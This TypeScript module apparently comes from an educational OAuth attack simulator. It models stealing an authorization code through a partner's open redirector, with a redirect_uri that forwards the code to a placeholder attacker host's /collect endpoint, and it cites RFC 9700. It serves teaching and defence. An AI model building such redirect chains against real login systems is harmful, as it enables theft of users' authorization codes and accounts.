/** The victim's code goes to the partner's own host, which sends it on to the attacker. Not: an address of the attacker's that the shop itself accepts (code-redirected.ts). */
import { rfc } from '#sources/sources';
import type { AttackUnit } from '../attacker/attack';
import { leadCodeTo } from '../attacker/partner-code';
import { ATTACKER_ORIGIN, PARTNER_ORIGIN } from '../origins';

const REDIRECT_URI = `${PARTNER_ORIGIN}/away?to=${encodeURIComponent(`${ATTACKER_ORIGIN}/collect`)}`;

export default {
  order: 83,
  group: 'login at a partner',
  label: 'Code through an open redirector',
  also: ['OAuth', 'redirect_uri', 'open redirect', 'redirector', 'authorization code'],
  says: 'The partner’s site has a redirector that sends browsers on to any address. A link opens the shop’s real login page, with that redirector as redirect_uri. The victim logs in. The code goes to the partner’s host, and from there to the attacker.',
  grants: ['a page that the victim opens'],
  sources: [rfc(9700, '4.11.1'), rfc(9700, '4.1')],
  scene: [],
  assumes: [
    'The shop compares only the beginning of the address.',
    'Until a defense closes it, the partner’s redirector passes on all other parameters.',
    'The partner is a public client, so it exchanges a code without a client secret.',
  ],
  play: (hands) => leadCodeTo(hands, REDIRECT_URI),
} satisfies AttackUnit;
